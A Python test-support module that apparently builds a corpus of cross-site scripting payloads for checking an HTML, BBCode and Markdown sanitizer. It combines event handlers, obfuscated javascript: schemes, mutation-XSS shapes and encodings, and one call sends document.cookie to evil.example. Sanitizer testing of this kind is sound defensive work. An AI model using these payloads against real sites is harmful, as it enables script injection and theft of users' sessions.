"""Texts that want to run in somebody's browser: those of the corpora, and as many of our own.

Ours are built, not collected: parts that have each fooled some program somewhere (elements,
events, schemes, ways to write a letter, ways to nest) put together in every way. Whatever of
them runs sets `window.zq` or opens a dialog; tests look for both.
"""

import base64
import json
import os
import random
import zlib
from collections.abc import Callable, Iterator
from itertools import product
from pathlib import Path
from typing import Any

# Not taken from tests/conftest.py: what is in bench/ needs no Django.
SHARED = Path(__file__).resolve().parents[3] / "shared"
# In the corpora: which part of a case is the attack.
_TEXT_OF_A_CASE = ("input", "content", "markdown")
_FILES = (
    *("xss/payload_lists.json", "xss/payloads_by_technique.json", "xss/dompurify_expect.json"),
    *("xss/html5lib_sanitizer.json", "xss/bleach_clean.json", "xss/upload_files.json"),
    "markdown/markdown_it_xss.json",
)


def attacks_of_others(shared: Path) -> list[str]:
    """Every attack of the corpora that stand beside the project, each once, in their order."""
    found: dict[str, None] = {}
    for name in _FILES:
        cases: list[dict[str, Any]] = json.loads((shared / "corpora" / name).read_text())["cases"]
        for case in cases:
            found[next(str(case[key]) for key in _TEXT_OF_A_CASE if key in case)] = None
    assert len(found) > 1_900
    return list(found)


# What is run, if anything is. None needs quotation marks: those are for what stands around it.
CALLS = (
    "window.zq=1",
    "alert(1)",
    "top[/zq/.source]=1",
    "self['zq']=1",
    "confirm`1`",
    "eval(atob`d2luZG93LnpxPTE`)",
    "import('data:text/javascript,top.zq=1')",
    "fetch('//evil.example/'+document.cookie)",
    "location='javascript:zq=1'",
    "setTimeout`window.zq\\x3d1`",
)
_EVENTS = (
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onstart"),
    *("onanimationend", "ontransitionrun", "onpointerrawupdate", "onbeforetoggle", "onscrollend"),
    *("oncontentvisibilityautostatechange", "onsecuritypolicyviolation", "onwebkitanimationend"),
)
_ELEMENTS = (
    *("img src=x", "svg", "svg/", "video src=x", "audio src=x", "body", "details open", "marquee"),
    *("iframe src=x", "object data=x", "embed src=x", "input autofocus", "select autofocus"),
    *(
        "a href=# tabindex=1 autofocus",
        "p",
        "b",
        "blockquote",
        "table background=x",
        "math",
        "form",
    ),
    *("style", "link rel=stylesheet href=x", "meta", "template", "x-zq", "isindex", "frameset"),
    *("svg><animate attributeName=x dur=1s", "div contenteditable autofocus", "dialog open", "br"),
    *(
        "textarea autofocus",
        "noscript",
        "portal src=x",
        "span class=post-image",
        "td",
        "li",
        "code",
    ),
)
_BETWEEN = (" ", "/", "\n", "\t", "\x0c", "\r\n", "/\t/", " x=1 ", ' "" ', "\x0b", "\xa0", "\x00")
_QUOTES = ("{}", '"{}"', "'{}'", "`{}`", "“{}”", '"{}', "\x00{}")
_CLOSINGS = (">", "/>", " >", "//>", "", "<", " x", ">x</x>", "\n>", "-->", "\x00>")

_SCHEMES = (
    *("javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", "\x01javascript:{}"),
    *(" javascript:{}", "javascript&colon;{}", "javascript&#58;{}", "javascript&#x3a;{}"),
    *("&#106;avascript:{}", "&#x6A&#x61vascript:{}", "javascript\t:{}", "javascript://%0a{}"),
    *("javascript://a.example/%0d%0a{}//.png", "jav&#x0A;ascript:{}", "jav&Tab;ascript:{}"),
    *("jav\u00adascript:{}", "javascript\u200b:{}", "ｊavascript:{}", "javaſcript:{}"),
    *("vbscript:{}", "livescript:{}", "data:text/html,<script>{}</script>", "feed:javascript:{}"),
    *(
        "data:text/html;base64,{b}",
        "data:image/svg+xml;base64,{s}",
        "DATA:TEXT/HTML,<svg onload={}>",
    ),
    *("view-source:javascript:{}", "blob:javascript:{}", "filesystem:javascript:{}", "jar:data:{}"),
    *("//evil.example/{}", "\\\\evil.example\\{}", "/\\evil.example/{}", "///evil.example/{}"),
    *(
        "http:javascript:{}",
        "https:/\\javascript:{}@evil.example",
        "http://javascript:{}@x.example",
    ),
    *("mailto:x?body=<script>{}</script>", "http://a.example/'onmouseover={}//", "%6aavascript:{}"),
    *('http://a.example/"onmouseover="{}', "http://a.example/><script>{}</script>", "x:{}", "{}"),
    *("http://a.example/ onmouseover={} ", "http://a.example/\x0conerror={}", "attachment:{}"),
    *("attachment:1 onerror={}", "/p/1/?{}", "javascript\\:{}", "\u2028javascript:{}", "j:{}"),
)

# Ways in which one text stands inside another; {} is a link or a mark-up of HTML.
BB_CODE = (
    *("[mine={}]x[/mine]", "[mine=http://a.example]{}[/mine]", "[said={}]x[/said]"),
    *("[twice]{}[/twice]", "[tint={}]x[/tint]", "[said=x][mine={}]{}[/said][/mine]"),
    *("[img={}]http://a.example/b.png[/img]", "[img=99999x99999]http://a.example/{}[/img]"),
    *(
        "[url={}]x[/url]",
        '[url="{}"]x[/url]',
        "[url='{}']x[/url]",
        "[url]{}[/url]",
        "[img]{}[/img]",
    ),
    *("[img={}]x[/img]", '[img alt="{}"]http://a.example/b.png[/img]', "[email={}]x[/email]"),
    *("[color={}]x[/color]", '[color="{}"]x[/color]', "[size={}]x[/size]", "[font={}]x[/font]"),
    *('[quote="{}"]x[/quote]', "[quote={};1]x[/quote]", "[quote author={} link=1]x[/quote]"),
    *("[spoiler={}]x[/spoiler]", "[code={}]x[/code]", "[code]{}[/code]", "[php]{}[/php]"),
    *(
        "[html]{}[/html]",
        "[highlight={}]x[/highlight]",
        "[noparse]{}[/noparse]",
        "[list={}][*]x[/list]",
    ),
    *(
        "[table={}][tr={}][td={}]x[/td][/tr][/table]",
        "[td style={}]x[/td]",
        "[anchor={}]x[/anchor]",
    ),
    *("[video={}]x[/video]", "[video]{}[/video]", "[youtube]{}[/youtube]", "[media={}]x[/media]"),
    *("[attach={}]1[/attach]", "[attach]{}[/attach]", "[thread={}]x[/thread]", "[post={}]x[/post]"),
    *(
        "[member={}]x[/member]",
        "[mention={}]x[/mention]",
        "[user={}]x[/user]",
        "[indent={}]x[/indent]",
    ),
    *(
        "[left={}]x[/left]",
        "[align={}]x[/align]",
        "[h={}]x[/h]",
        "[style={}]x[/style]",
        "[{}]x[/{}]",
    ),
    *("[url=[img]{}[/img]]x[/url]", "[img][url={}]x[/url][/img]", "[url={}][img]{}[/img][/url]"),
    *(
        "[b][url={}][/b]x[/url]",
        "[url=http://a.example/[b]{}[/b]]x[/url]",
        "[quote=[url={}]]x[/quote]",
    ),
    *("[url\x00={}]x[/url]", "[url = {} ]x[/url]", "[url={}\n]x[/url]", "[glow={},2,3]x[/glow]"),
)
MARKDOWN = (
    *(
        "[x]({})",
        "[x](<{}>)",
        '[x](http://a.example/ "{}")',
        "[x](http://a.example/ '{}')",
        "![x]({})",
    ),
    *(
        "![{}](http://a.example/b.png)",
        "<{}>",
        "[x]: {}\n\n[x]",
        '[x]: http://a.example/ "{}"\n\n[x]',
    ),
    *("```{}\nx\n```", "~~~ {}\nx\n~~~", "`{}`", "    {}", "> {}", "# {}", "1. {}", "- [ ] {}"),
    *("| {} | b |\n| --- | :-: |\n| c | {} |", "[^{}]: x\n\n[^{}]", "[^1]\n\n[^1]: {}", "||{}||"),
    *(
        "[![x]({})]({})",
        "[x][{}]\n\n[{}]: http://a.example/",
        "<a href={}>x</a>",
        "<!--{}-->",
        "{}\n===",
    ),
    *("![x](attachment:{})", "![x](attachment:1 '{}')", "<?{}?>", "<![CDATA[{}]]>", "@[{}]({})"),
    *(
        ">! {}",
        ":::spoiler {}\nx\n:::",
        "[x]( {} )",
        "[x](\\{})",
        "[x]({}&quot;onclick=zq=1)",
        "&{};",
    ),
)
# Shapes that parsers read differently the second time.
_MUTATING = (
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x onerror={}&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror={}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><table><tr></template><script>{}</script>",
    "<select><template><img src=x onerror={}></template></select>",
    "<svg><foreignObject><p><style></p></style><img src=x onerror={}>",
    "<math><annotation-xml encoding='text/html'><script>{}</script></annotation-xml></math>",
    "<table><td><svg><desc><td></desc></svg><img src=x onerror={}></td></table>",
    "<plaintext><img src=x onerror={}>",
    "<xmp><p title='</xmp><img src=x onerror={}>'></xmp>",
    "<textarea></textarea/><img src=x onerror={}>",
    "<title><a title='</title><svg onload={}>'></title>",
    "<iframe srcdoc='&lt;script&gt;parent.zq=1,{}&lt;/script&gt;'></iframe>",
    "<svg><set attributeName=href to=javascript:{} /><a><text y=9>x",
    "<svg><use href='data:image/svg+xml;base64,{s}#x'></svg>",
    "<a href='javascript&Tab;:{}' style='position:fixed;inset:0;z-index:9999'>x</a>",
    "<div style='position:fixed;inset:0;background:url(//evil.example/{})'>x</div>",
    "<base href=//evil.example/><link rel=import href=data:text/html,{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<![CDATA[><script>{}</script>]]>",
    "<!--><img src=x onerror={}>-->",
    "<!--!><img src=x onerror={}>--!><svg onload={}>",
    "<?xml version=1?><?x ><svg onload={}>?>",
    "</p></blockquote></details></li></ul></article></main><script>{}</script>",
    "</title></textarea></style></script></template></noscript><svg onload={}>",
    "<sc<script>ript>{}</sc</script>ript>",
    "<img src=x one<b>rror={}>",
    "]]></script></style>--><svg onload={}>",
    "{{{{constructor.constructor('{}')()}}}}${{{}}}<%={}%>#{{{}}}",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\ufeff<script>{}</script>",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60script&#62{}&#60/script&#62",
    "&amp;lt;img src=x onerror={}&amp;gt;",
    "＜script＞{}＜/script＞",
    "¼script¾{}¼/script¾",
    "\u202e<tpircs>{}<script>",
    "<\x00script>{}</script>",
    "<s\u0130ript>{}</script><ſcript>{}</ſcript>",
    "\x1b$B<script>{}</script>\x1b(B",
    "<a\x0chref=javascript:{}>x",
    "<img src=x onerror\x0b={}>",
    "<svg\x0conload={}>",
)


def _whole(shape: str, call: str) -> str:
    """The shape with the call in all its places, plain or encoded."""
    if "{b}" in shape:
        return shape.replace("{b}", _base64(f"<script>{call}</script>"))
    if "{s}" in shape:
        return shape.replace(
            "{s}", _base64(f"<svg xmlns='http://www.w3.org/2000/svg' onload='{call}'/>")
        )
    return (
        shape.replace("{{", "\0(")
        .replace("}}", "\0)")
        .replace("{}", call)
        .replace("\0(", "{")
        .replace("\0)", "}")
    )


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _plain(text: str) -> str:
    return text


# How what stands before it could be ended, and how letters could be written.
_ENDINGS = ("", '">', "'>", "`>", "-->", "]]>", "</title>", "</textarea>", '"]', ")", "\n\n", "\\")
_WRITINGS: tuple[Callable[[str], str], ...] = (
    *(_plain,) * 12,
    str.upper,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#x3c;").replace(":", "&#0000058"),
    lambda text: text.replace("<", "\\<").replace("[", "\\[").replace("(", "\\("),
    lambda text: text.replace("<", "<\u200b").replace("=", "=\u00ad"),
    lambda text: text.replace("<", "<<").replace("[", "[["),
    lambda text: text.replace("<", "&amp;lt;").replace('"', "&quot;"),
    lambda text: text.replace("<", "%3C").replace('"', "%22").replace(":", "%3A"),
    lambda text: text + text,
    lambda text: "*" + text + "*" + text,
    lambda text: text.replace(" ", "\n"),
)


def _elements(pick: random.Random) -> Iterator[str]:
    for element, event in product(_ELEMENTS, _EVENTS):
        handler = event + pick.choice(("=", " = ", "\n=", "\x00=")) + pick.choice(_QUOTES)
        yield f"<{element}{pick.choice(_BETWEEN)}{handler}{pick.choice(_CLOSINGS)}"


def _links(pick: random.Random) -> Iterator[str]:
    for scheme, place in product(_SCHEMES, BB_CODE + MARKDOWN):
        if pick.random() < 0.3:
            yield place.replace("{}", scheme)


def _in_marks(pick: random.Random) -> Iterator[str]:
    for shape, place in product(_MUTATING, ("{}", *BB_CODE, *MARKDOWN)):
        if place == "{}" or pick.random() < 0.12:
            yield place.replace("{}", shape) if place != "{}" else shape


def _nested(pick: random.Random) -> Iterator[str]:
    """A mark-up in a mark-up in a mark-up, of either language, crossed or cut off anywhere."""
    for _ in range(500):
        text = pick.choice(_SCHEMES + _MUTATING)
        for _ in range(pick.randint(2, 4)):
            text = pick.choice(BB_CODE + MARKDOWN).replace("{}", text)
        yield text[: pick.choice((len(text), pick.randint(1, len(text))))]


def own_attacks() -> list[str]:
    """Attacks of our own making, always the same ones, each once; about 4,000."""
    pick = random.Random(zlib.crc32(b"paceline"))
    found: dict[str, None] = {}
    for shapes in (_elements, _links, _in_marks, _nested):
        for shape in shapes(pick):
            text = _whole(shape, pick.choice(CALLS))
            found[pick.choice(_ENDINGS) + pick.choice(_WRITINGS)(text)] = None
    return list(found)


def all_attacks() -> list[str]:
    """Those of others, where they stand beside the project, and ours."""
    others = attacks_of_others(SHARED) if SHARED.is_dir() else []
    return [*others, *own_attacks()]


def attacks_for_the_browser() -> list[str]:
    """What a real browser is shown: each fifth, which takes a minute, and all with ATTACKS=all."""
    return all_attacks()[:: 1 if os.environ.get("ATTACKS") == "all" else 5]
